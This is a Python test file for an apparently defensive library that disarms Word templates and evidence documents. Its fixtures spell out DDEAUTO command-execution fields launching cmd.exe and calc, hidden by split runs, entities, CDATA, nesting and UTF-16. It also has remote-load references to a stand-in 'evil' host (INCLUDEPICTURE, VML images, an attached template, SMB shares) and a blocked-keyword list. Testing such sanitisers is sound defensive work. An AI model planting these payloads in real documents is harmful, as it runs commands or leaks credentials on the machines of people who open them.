"""Letters and evidence in Word: nothing runs or loads when they are opened, however it is written; what is shown stays."""

import zipfile
from pathlib import Path
from typing import Any

import pytest

from evidencekit.errors import TemplateError
from evidencekit.templatecheck import lint
from evidencekit.templating import render_docx
from evidencekit.wordfile import disarm, packed, read_parts
from test_templating import TODAY, template

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
VML = 'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'


def mark(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def code(*texts: str) -> str:
    return "".join(f'<w:r><w:instrText xml:space="preserve">{t}</w:instrText></w:r>' for t in texts)


def shown(text: str) -> str:
    return f"<w:r><w:t>{text}</w:t></w:r>"


def made_field(*texts: str) -> str:
    return f"<w:p>{mark('begin')}{code(*texts)}{mark('separate')}{shown('as shown')}{mark('end')}</w:p>"


def simple(attribute: str) -> str:
    return f"<w:p><w:fldSimple {attribute}>{shown('as shown')}</w:fldSimple></w:p>"


NESTED = (
    f"<w:p>{mark('begin')}{code(' ')}{mark('begin')}{code(' QUOTE DDE')}{mark('separate')}{shown('DDEAUTO')}{mark('end')}"
    f"{code(' cmd')}{mark('separate')}{shown('as shown')}{mark('end')}</w:p>"
)
RUNS_OR_LOADS = {
    "split over runs": made_field(" D", 'DEAUTO "c:\\\\cmd.exe" "/c calc"'),
    "split over many runs": made_field("D", "D", "E", " ", "cmd", " calc"),
    "in single quotes": simple("w:instr=' DDEAUTO cmd '"),
    "in numbers": made_field(" DD&#69;AUTO cmd "),
    "in numbers, simple": simple('w:instr=" DD&#x45;AUTO cmd "'),
    "in a comment's company": made_field(" DD<!-- x -->EAUTO cmd"),
    "in CDATA": made_field(" DD<![CDATA[EAUTO cmd]]>"),
    "put together by another": NESTED,
    "behind a harmless one": made_field(" PAGE DDEAUTO cmd"),
    "behind an address": made_field(' HYPERLINK "https://ok.example/" DDEAUTO cmd'),
    "not on the list": made_field(" MACROBUTTON cmd as shown "),
    "a picture to be loaded": made_field(' INCLUDEPICTURE "http://evil/x.png" '),
    "a link to a file": made_field(' HYPERLINK "file://evil/share" '),
    "a link to a share": simple("w:instr='HYPERLINK \"\\\\evil\\share\"'"),
    "with a prefix of its own": f'<q:p xmlns:q="{W}"><q:fldSimple q:instr="DDEAUTO cmd"><q:r><q:t>as shown</q:t></q:r></q:fldSimple></q:p>',
    "said twice": simple('xmlns:q="q" q:instr="PAGE" w:instr="DDEAUTO cmd"'),
    "a picture of a drawing": f'<w:p {VML}><w:r><w:pict><v:shape><v:imagedata src="http://evil/x.png" o:href="http://evil/x.png"/></v:shape></w:pict><w:t>as shown</w:t></w:r></w:p>',
    "a filling of a drawing": f"<w:p {VML}><w:r><w:pict><v:shape><v:fill src = '//evil/x.png'/></v:shape></w:pict><w:t>as shown</w:t></w:r></w:p>",
    "a linked object": f'<w:p {VML}><w:r><w:object><o:OLEObject Type="Link" ProgID="cmd" r:id="rId900"/></w:object><w:t>as shown</w:t></w:r></w:p>',
}  # fmt: skip
EVIL = (b"DDEAUTO", b"EAUTO", b"cmd", b"evil", b"INCLUDEPICTURE", b"MACROBUTTON")


def with_body(folder: Path, xml: str, *, text: str = "Dear {{ who }}") -> Path:
    """Write a template that has `xml` before its first paragraph."""
    path = template(folder, text)
    parts = read_parts(path)
    parts["word/document.xml"] = parts["word/document.xml"].replace(b"<w:body>", f"<w:body>{xml}".encode())
    path.write_bytes(packed(parts))
    return path


def letter(path: Path, **context: Any) -> dict[str, bytes]:
    made, _ = render_docx(
        path, {"who": "Ann", **context}, path.with_suffix(".out.docx"), title="", author="", today=TODAY
    )
    return read_parts(made)


@pytest.mark.parametrize("xml", RUNS_OR_LOADS.values(), ids=RUNS_OR_LOADS)
def test_nothing_in_a_template_runs_or_loads(tmp_path: Path, xml: str) -> None:
    """The letter has what the field showed, and no field; evidence is treated alike before an engine opens it."""
    path = with_body(tmp_path, xml)

    for made in (letter(path), disarm(read_parts(path))):
        body = made["word/document.xml"]
        assert b"as shown" in body
        for word in EVIL:
            assert word not in body


@pytest.mark.parametrize(
    "instruction",
    [
        " PAGE ",
        " PAGE \\* MERGEFORMAT ",
        ' DATE \\@ "d MMMM yyyy" ',
        " REF _Ref1234 \\h ",
        ' TOC \\o "1-3" \\h \\z \\u ',
        " SEQ Table \\* ARABIC ",
        ' MERGEFIELD "First name" ',
        " =SUM(ABOVE) ",
        ' HYPERLINK "https://carrier.example/link/include?x=1" ',
        ' HYPERLINK "https://carrier.example/x" \\l "part" \\o "a tip for you" \\t "_blank" ',
        ' HYPERLINK "mailto:claims@carrier.example" ',
        ' HYPERLINK \\l "_Toc123" ',
    ],
)
def test_fields_that_count_repeat_or_are_clicked_stay(tmp_path: Path, instruction: str) -> None:
    escaped = instruction.replace('"', "&quot;")
    path = with_body(tmp_path, made_field(instruction) + simple(f'w:instr="{escaped}"'))
    parts = read_parts(path)

    assert disarm(parts) == parts
    body = letter(path)["word/document.xml"].decode()
    assert instruction in body
    assert "fldSimple" in body


def test_a_field_is_judged_once_it_is_filled_in(tmp_path: Path) -> None:
    """What a tag puts into an instruction may make another field of it."""
    xml = made_field(" MERGEFIELD x{{ who }}") + simple('w:instr=" SEQ {{ who }} "')

    body = letter(with_body(tmp_path, xml, text="Dear {{ who }}"), who="DDEAUTO cmd")["word/document.xml"]

    assert body.count(b"as shown") == 2
    assert body.count(b"DDEAUTO") == 1  # in the paragraph, as text
    assert b"fldChar" not in body
    assert b"fldSimple" not in body


@pytest.mark.parametrize("name", ["word/footer1.xml", "word/glossary/document.xml", "customXml/any.bin"])
def test_no_part_is_left_out(tmp_path: Path, name: str) -> None:
    parts = read_parts(template(tmp_path, "x"))
    parts[name] = f'<w:ftr xmlns:w="{W}">{RUNS_OR_LOADS["split over runs"]}</w:ftr>'.encode()

    assert b"EAUTO" not in disarm(parts)[name]


def test_another_encoding_or_a_document_type_hides_nothing(tmp_path: Path) -> None:
    parts = read_parts(template(tmp_path, "x"))
    footer = f'<w:ftr xmlns:w="{W}">{RUNS_OR_LOADS["split over runs"]}</w:ftr>'
    parts["word/footer1.xml"] = footer.encode("utf-16")
    entity = '<!DOCTYPE x [<!ENTITY a "DDEAUTO cmd">]>' + footer.replace("DEAUTO", "&a;")
    parts["word/footer2.xml"] = entity.encode()
    rels = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="x/attachedTemplate" '
        'TargetMode="Ext&#101;rnal" Target="http://evil/x.dotm"/></Relationships>'
    )
    parts["word/_rels/settings.xml.rels"] = rels.encode()
    parts["word/_RELS/footer1.xml.rels"] = rels.replace("&#101;", "e").encode("utf-16")
    parts["word/_rels/footer2.xml.rels"] = rels.replace('TargetMode="Ext&#101;rnal"', "").encode()

    everything = b"".join(disarm(parts).values()).replace(b"\0", b"")

    for word in (b"DEAUTO", b"evil", b"ENTITY"):
        assert word not in everything


def test_a_broken_part_hides_nothing_and_is_no_template(tmp_path: Path) -> None:
    """Of evidence only what could be read, and judged, is shown; half a template would be half a letter."""
    path = with_body(tmp_path, RUNS_OR_LOADS["split over runs"] + "<w:p><w:p>")
    deep = "<w:p>" * 20_000 + RUNS_OR_LOADS["in single quotes"] + "</w:p>" * 20_000

    parts = disarm(read_parts(path) | {"word/footer1.xml": f'<w:ftr xmlns:w="{W}">{deep}</w:ftr>'.encode()})

    assert b"as shown" in parts["word/document.xml"]
    assert b"EAUTO" not in b"".join(parts.values())
    with pytest.raises(TemplateError, match="is damaged"):
        letter(path)


def test_who_checks_a_template_is_told_of_fields_that_it_loses(tmp_path: Path) -> None:
    path = with_body(
        tmp_path, made_field(" IF 1 = 1", " yes no ") + made_field(" PAGE "), text="Dear {{ claimant.name }}"
    )

    found = lint(path)

    assert [(f.code, "“IF 1 = 1 yes no”" in f.message) for f in found] == [("field-struck", True)]


def test_settings_ask_no_database(tmp_path: Path) -> None:
    path = template(tmp_path, "Dear {{ who }}")
    parts = read_parts(path)
    merge = (
        b'<w:mailMerge><w:connectString w:val="Provider=evil"/><w:query w:val="SELECT cmd"/></w:mailMerge>'
    )
    parts["word/settings.xml"] = parts["word/settings.xml"].replace(
        b"</w:settings>", merge + b"</w:settings>"
    )
    path.write_bytes(packed(parts))

    assert b"mailMerge" in zipfile.ZipFile(path).read("word/settings.xml")
    assert b"mailMerge" not in letter(path)["word/settings.xml"]
